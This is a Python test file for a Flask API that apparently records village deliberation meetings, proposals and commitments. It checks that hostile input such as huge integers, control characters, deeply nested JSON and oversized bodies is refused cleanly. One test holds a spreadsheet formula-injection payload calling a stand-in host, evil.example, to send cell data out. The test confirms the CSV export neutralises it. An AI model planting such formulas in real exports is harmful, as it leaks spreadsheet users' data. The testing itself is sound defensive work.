"""Input no honest client sends still gets a clear answer for its sender alone: never a 500."""

from __future__ import annotations

import base64
import csv
import io
import json
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from flask import Flask
from flask.testing import FlaskClient
from http_callers import Caller, Village, process_body
from test_http_problems import assert_problem
from werkzeug.test import TestResponse

from service.app.application import Mufakat
from service.app.process_directory import PROCESS_DIRECTORY_ID
from service.audit.checkpoints import CHECKPOINT_LOG_ID, seal_checkpoint
from service.http.app_factory import MAX_BODY_BYTES

HUGE = str(2**70)


def _contribution_count(facilitator: Caller, village: Village) -> int:
    return int(facilitator.get(village.proposal).get_json()["contribution_count"])


def test_text_no_utf_8_can_hold_is_refused_and_nothing_is_recorded(
    village: Village, facilitator: Caller, client: FlaskClient
) -> None:
    before = _contribution_count(facilitator, village)
    raw = '{"participant_id": "' + village.participants[0] + '", "kind": "support", "text": "a\\ud800b"}'

    answer = client.post(
        f"/api/v1{village.proposal}/contributions",
        data=raw,
        content_type="application/json",
        headers={"Authorization": f"Bearer {facilitator.secret}"},
    )

    assert_problem(answer, 400, "malformed_json")
    assert _contribution_count(facilitator, village) == before


def test_a_body_nested_past_reason_is_refused(facilitator: Caller, client: FlaskClient) -> None:
    raw = '{"title": ' + "[" * 100_000 + "]" * 100_000 + "}"

    answer = client.post(
        "/api/v1/processes",
        data=raw,
        content_type="application/json",
        headers={"Authorization": f"Bearer {facilitator.secret}"},
    )

    assert_problem(answer, 400, "malformed_json")


@pytest.mark.parametrize(
    "path",
    [
        "/processes?after=" + HUGE,
        "/feed?after=" + base64.urlsafe_b64encode(f"f{HUGE}".encode()).decode().rstrip("="),
        "/feed?after=" + base64.urlsafe_b64encode(b"f-1").decode().rstrip("="),
        "/feed.csv?after=" + base64.urlsafe_b64encode(f"f{HUGE}".encode()).decode().rstrip("="),
        "/audit/events?after=" + HUGE,
        "/audit/checkpoints?after=" + HUGE,
        "/proposals/{proposal}/history?as_of_version=" + HUGE,
    ],
)
def test_a_number_past_any_database_integer_is_refused_as_invalid(village: Village, admin: Caller, path: str) -> None:
    answer = admin.client.get(
        "/api/v1" + path.format(proposal=village.proposal_id), headers={"Authorization": f"Bearer {admin.secret}"}
    )

    assert answer.status_code == 422, answer.get_json()
    assert answer.get_json()["code"] == "validation_failed"


def test_a_stale_if_match_on_a_commitment_is_412(
    village: Village, facilitator: Caller, adopt: Callable[[Village], dict[str, Any]]
) -> None:
    adopt(village)
    body = {"owner": "Kaur Pembangunan", "description": "Membangun posyandu", "due": "2027-06-30"}

    stale = facilitator.post(f"{village.proposal}/commitments", body, headers={"If-Match": '"1"'})

    assert_problem(stale, 412, "version_mismatch")
    assert facilitator.post(f"{village.proposal}/commitments", body).status_code == 201


def test_someone_invited_twice_counts_once_towards_the_quorum(village: Village, facilitator: Caller) -> None:
    invited = [village.participants[0]] * 3
    meeting = facilitator.created(
        f"/processes/{village.process_id}/meetings",
        {"title": "Rapat kecil", "scheduled_for": "2027-02-01T09:00:00+07:00", "invited": invited},
    )
    assert meeting["invited"] == [village.participants[0]]
    facilitator.ok(f"/meetings/{meeting['id']}/open", {"attendees": [village.participants[0]]})

    check = facilitator.post(f"{village.proposal}/consensus-checks", {"meeting_id": meeting["id"]})

    assert check.status_code == 201, check.get_json()


def test_a_tiny_quorum_still_needs_someone_present(facilitator: Caller) -> None:
    process = facilitator.created("/processes", process_body("public", quorum=0.0001))
    person = facilitator.created(f"/processes/{process['id']}/participants", {"name": "Ibu Ratna", "group": "women"})
    meeting = facilitator.created(
        f"/processes/{process['id']}/meetings", {"title": "Rapat", "scheduled_for": "2027-02-01T09:00:00+07:00"}
    )
    facilitator.ok(f"/meetings/{meeting['id']}/open", {"attendees": []})
    proposal = facilitator.created(
        f"/processes/{process['id']}/proposals", {"title": "Usulan", "body": "Teks", "submitted_by": person["id"]}
    )

    nobody = facilitator.post(f"/proposals/{proposal['id']}/consensus-checks", {"meeting_id": meeting["id"]})

    assert_problem(nobody, 409, "quorum_not_met")


# --- the hostile-input table (issue 11): each case a 4xx problem with a stable code, nothing recorded -----

FAR_FUTURE = "9999-12-31T23:59:59-14:00"
FAR_PAST = "0001-01-01T00:00:00+14:00"
PROCESS_DIRECTORY = str(PROCESS_DIRECTORY_ID)
CHECKPOINT_LOG = str(CHECKPOINT_LOG_ID)


@dataclass(frozen=True)
class Hostile:
    """One request no honest client sends, and the problem it must get."""

    method: str
    path: str
    body: Any = None
    raw: str | None = None
    headers: dict[str, str] = field(default_factory=dict)
    status: int = 422
    code: str = "validation_failed"


def _process(**change: Any) -> dict[str, Any]:
    return {**process_body(), **change}


HOSTILE = {
    "a meeting scheduled past what UTC can hold": Hostile(
        "POST", "/processes/{process}/meetings", {"title": "Rapat", "scheduled_for": FAR_FUTURE}
    ),
    "a meeting scheduled before 1900": Hostile(
        "POST", "/processes/{process}/meetings", {"title": "Rapat", "scheduled_for": "1899-12-31T23:00:00Z"}
    ),
    "a commitment due in the year 9999": Hostile(
        "POST", "{proposal}/commitments", {"owner": "Kaur", "description": "Posyandu", "due": "9999-12-31"}
    ),
    "a feed since the year 1 at +14:00": Hostile("GET", "/feed?since=" + quote(FAR_PAST)),
    "a feed until the year 9999 at -14:00": Hostile("GET", "/feed?until=" + quote(FAR_FUTURE)),
    "a feed.csv since the year 1": Hostile("GET", "/feed.csv?since=" + quote(FAR_PAST)),
    "a history as of the year 9999 at -14:00": Hostile("GET", "{proposal}/history?as_of=" + quote(FAR_FUTURE)),
    "a NUL as the region code of the feed": Hostile("GET", "/feed?region_code=%00"),
    "a region code with a final newline": Hostile("POST", "/processes", _process(region_code="33.01\n")),
    "a region code of dots": Hostile("POST", "/processes", _process(region_code="33..01")),
    "If-Match with a superscript two": Hostile("POST", "/processes/{process}/close", headers={"If-Match": "²"}),
    "If-Match of 5,000 digits": Hostile("POST", "/processes/{process}/close", headers={"If-Match": "9" * 5000}),
    "an integer of 5,000 digits in a body": Hostile(
        "POST", "/processes", raw='{"title": "Musdes", "rules": {"quorum": ' + "9" * 5000 + "}}"
    ),
    "an integer of 400 digits where a fraction goes": Hostile(
        "POST", "/processes", raw='{"title": "Musdes", "rules": {"quorum": ' + "9" * 400 + "}}"
    ),
    "the process directory's id as a process": Hostile(
        "GET", f"/processes/{PROCESS_DIRECTORY}", status=404, code="not_found"
    ),
    "the process directory's id to schedule in": Hostile(
        "POST",
        f"/processes/{PROCESS_DIRECTORY}/meetings",
        {"title": "Rapat", "scheduled_for": "2027-01-15T09:00:00+07:00"},
        status=404,
        code="not_found",
    ),
    "the process directory's id as a proposal": Hostile(
        "GET", f"/proposals/{PROCESS_DIRECTORY}", status=404, code="not_found"
    ),
    "the process directory's id as a meeting": Hostile(
        "GET", f"/meetings/{PROCESS_DIRECTORY}", status=404, code="not_found"
    ),
    "the process directory's participation": Hostile(
        "GET", f"/processes/{PROCESS_DIRECTORY}/participation", status=404, code="not_found"
    ),
    "the checkpoint log's id as a process": Hostile(
        "GET", f"/processes/{CHECKPOINT_LOG}", status=404, code="not_found"
    ),
    "the checkpoint log's id to register in": Hostile(
        "POST",
        f"/processes/{CHECKPOINT_LOG}/participants",
        {"name": "Ibu Ratna", "group": "women"},
        status=404,
        code="not_found",
    ),
    "the checkpoint log's history": Hostile(
        "GET", f"/proposals/{CHECKPOINT_LOG}/history", status=404, code="not_found"
    ),
    "a C0 control character in a public title": Hostile("POST", "/processes", _process(title="Musdes\x1b[2J")),
    "a newline in a title": Hostile("POST", "/processes", _process(title="Musdes\nSukamaju")),
    "a NUL in a long text": Hostile(
        "POST", "{proposal}/contributions", {"participant_id": "{participant}", "kind": "support", "text": "ya\x00"}
    ),
    "a control character in a name": Hostile(
        "POST", "/processes/{process}/participants", {"name": "Ibu\x07Ratna", "group": "women"}
    ),
    "a control character in a list of texts": Hostile(
        "POST", "/tokens", {"role": "partner", "name": "Bappeda\x0b", "processes": []}
    ),
}


def _send(client: FlaskClient, caller: Caller, village: Village, case: Hostile) -> TestResponse:
    def filled(text: str) -> str:
        return (
            text.replace("{process}", village.process_id)
            .replace("{proposal}", village.proposal)
            .replace("{participant}", village.participants[0])
        )

    headers = {"Authorization": f"Bearer {caller.secret}", **case.headers}
    path = "/api/v1" + filled(case.path)
    if case.method == "GET":
        return client.get(path, headers=headers)
    body = case.raw if case.raw is not None else json.dumps(case.body)
    data = filled(body) if body != "null" else None
    return client.post(path, data=data, content_type="application/json", headers=headers)


@pytest.mark.parametrize("case", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_input_is_a_problem_for_its_sender_and_records_nothing(
    village: Village, admin: Caller, client: FlaskClient, the_ledger: Mufakat, case: Hostile
) -> None:
    seal_checkpoint(the_ledger, Ed25519PrivateKey.generate())  # the checkpoint log exists, as in production
    events_before = the_ledger.recorder.max_notification_id()

    answer = _send(client, admin, village, case)

    assert_problem(answer, case.status, case.code)
    assert the_ledger.recorder.max_notification_id() == events_before


def test_a_chunked_body_over_the_limit_is_413(admin: Caller, client: FlaskClient) -> None:
    body = json.dumps(_process(description="a" * MAX_BODY_BYTES)).encode()

    answer = client.post(
        "/api/v1/processes",
        input_stream=io.BytesIO(body),
        environ_overrides={"wsgi.input_terminated": True},  # what gunicorn sets for a chunked body
        headers={
            "Authorization": f"Bearer {admin.secret}",
            "Content-Type": "application/json",
            "Transfer-Encoding": "chunked",
        },
    )

    assert_problem(answer, 413, "payload_too_large")


def test_tab_and_newline_stay_allowed_in_long_texts(village: Village, facilitator: Caller) -> None:
    text = "Setuju.\n\tAsal jalan desa diperbaiki dulu."

    answer = facilitator.post(
        f"{village.proposal}/contributions",
        {"participant_id": village.participants[0], "kind": "support", "text": text},
    )

    assert answer.status_code == 200, answer.get_json()


def test_a_timestamp_is_normalised_to_utc_as_it_is_read(village: Village, facilitator: Caller) -> None:
    meeting = facilitator.created(
        f"/processes/{village.process_id}/meetings",
        {"title": "Rapat malam", "scheduled_for": "2027-01-15T23:30:00-14:00"},
    )

    assert meeting["scheduled_for"] == "2027-01-16T13:30:00Z"


def test_a_server_error_is_one_json_log_line_with_the_request_id(
    app: Flask, client: FlaskClient, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail() -> None:
        raise RuntimeError("Ibu Siti Aminah 0812-0000-0000")

    app.add_url_rule("/api/v1/failing", "failing", fail)
    app.config["PROPAGATE_EXCEPTIONS"] = False

    answer = client.get("/api/v1/failing", headers={"X-Request-Id": "req-500-test"})

    assert_problem(answer, 500, "internal_error")
    lines = [json.loads(line) for line in capsys.readouterr().err.splitlines() if '"unhandled_error"' in line]
    assert [(line["request_id"], line["error"]) for line in lines] == [("req-500-test", "RuntimeError")]
    assert "Traceback" not in capsys.readouterr().err


def test_a_server_error_never_quotes_the_failing_data(
    app: Flask, client: FlaskClient, capsys: pytest.CaptureFixture[str]
) -> None:
    def fail() -> None:
        raise RuntimeError("Ibu Siti Aminah 0812-0000-0000")

    app.add_url_rule("/api/v1/failing", "failing", fail)
    app.config["PROPAGATE_EXCEPTIONS"] = False

    client.get("/api/v1/failing")

    stderr = capsys.readouterr().err
    assert "Siti Aminah" not in stderr and "Traceback" not in stderr


def test_a_formula_typed_as_a_title_reaches_feed_csv_neutralised(
    village: Village, facilitator: Caller, anonymous: Caller, adopt: Callable[[Village], dict[str, Any]]
) -> None:
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"Lihat")'
    proposal = facilitator.created(
        f"/processes/{village.process_id}/proposals",
        {"title": formula, "body": "Teks", "submitted_by": village.participants[0]},
    )
    adopt(Village(village.process_id, village.participants, village.meeting_id, proposal["id"]))

    answer = anonymous.get("/feed.csv")

    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
    assert [row["proposal_title"] for row in rows if row["kind"] == "decision"] == ["'" + formula]
    assert anonymous.get("/feed.atom").status_code == 200
